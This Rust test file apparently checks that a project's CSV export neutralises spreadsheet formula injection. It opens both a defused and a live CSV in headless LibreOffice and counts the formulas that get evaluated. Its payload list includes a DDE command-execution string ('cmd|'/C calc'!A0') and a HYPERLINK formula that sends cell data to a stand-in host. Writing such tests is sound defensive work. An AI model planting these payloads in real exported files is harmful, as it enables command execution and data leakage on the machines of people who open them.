//! Lists as CSV, opened by `LibreOffice`: nothing in them is a formula. Passes where there is none;
//! `.ci/run` installs it.

use std::path::Path;
use std::process::Command;

use thiqa::render::{Cell, Column, ColumnKind, Listing, listing_csv};

use crate::support::Bench;

/// What begins a formula, what hides that it does, and what it does then.
const SIGNS: [&str; 8] = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
const BEFORE: [&str; 7] = ["", " ", "\u{feff}", "\u{200f}", "\t", "\u{a0}", "\r\n"];
const BODIES: [&str; 4] = [
    "1+1",
    "HYPERLINK(\"http://x.example/\"&A1,\"open\")",
    "cmd|'/C calc'!A0",
    "SUM(1;2)*cell(\"filename\")",
];

fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    for sign in SIGNS {
        for before in BEFORE {
            all.extend(BODIES.map(|body| format!("{before}{sign}{body}")));
        }
    }
    all
}

/// The list of payloads, with a figure that stays a figure.
fn listing() -> Listing {
    Listing {
        kind: "payloads".to_owned(),
        title: String::new(),
        columns: vec![
            Column::new("text", "TEXT", ColumnKind::Text),
            Column::new("figure", "FIGURE", ColumnKind::Number),
            Column::new("=header()", "HEADER", ColumnKind::Text),
        ],
        rows: payloads()
            .into_iter()
            .map(|text| vec![Cell::Text(text.clone()), Cell::Int(-5), Cell::List(vec![text])])
            .collect(),
        below: Vec::new(),
        notes: Vec::new(),
    }
}

/// The sheet as `LibreOffice` reads it, in one XML file; `None` where there is none.
fn opened(directory: &Path, file: &str) -> Option<String> {
    let ran = Command::new("soffice")
        .args(["--headless", "--norestore", "--convert-to", "fods"])
        .arg(format!("-env:UserInstallation=file://{}/profile", directory.display()))
        // Commas, double quotes, UTF-8, from the first line, formulas evaluated.
        .arg("--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1,true")
        .arg("--outdir")
        .arg(directory)
        .arg(directory.join(file))
        .output()
        .ok()?;
    let sheet = directory.join(file).with_extension("fods");
    let text = std::fs::read_to_string(&sheet);
    Some(text.unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(&ran.stderr))))
}

#[test]
fn no_cell_of_a_list_is_a_formula_in_libreoffice() {
    let bench = Bench::new();
    let n = payloads().len();
    assert!(n >= 200);
    bench.write("safe.csv", &listing_csv(&listing()));
    // The same texts as they are: if these were no formulas either, the test would say nothing.
    let quoted = |text: &String| format!("\"{}\"\n", text.replace('"', "\"\""));
    bench.write("live.csv", &payloads().iter().map(quoted).collect::<String>());
    let directory = bench.path("");
    let Some(safe) = opened(&directory, "safe.csv") else {
        return;
    };
    let live = opened(&directory, "live.csv").unwrap();
    let formulas = |sheet: &str| sheet.matches("table:formula=").count();
    // `LibreOffice` takes only what begins with a bare equals sign; other programs take more.
    let n_live = formulas(&live);
    assert!(n_live >= BODIES.len(), "{n_live} formulas where nothing is defused");
    assert_eq!(formulas(&safe), 0);
    assert!(!safe.contains("xlink:href"), "a live link");
    // Figures stay figures, one a row.
    assert_eq!(safe.matches("office:value=\"-5\"").count(), n);
}
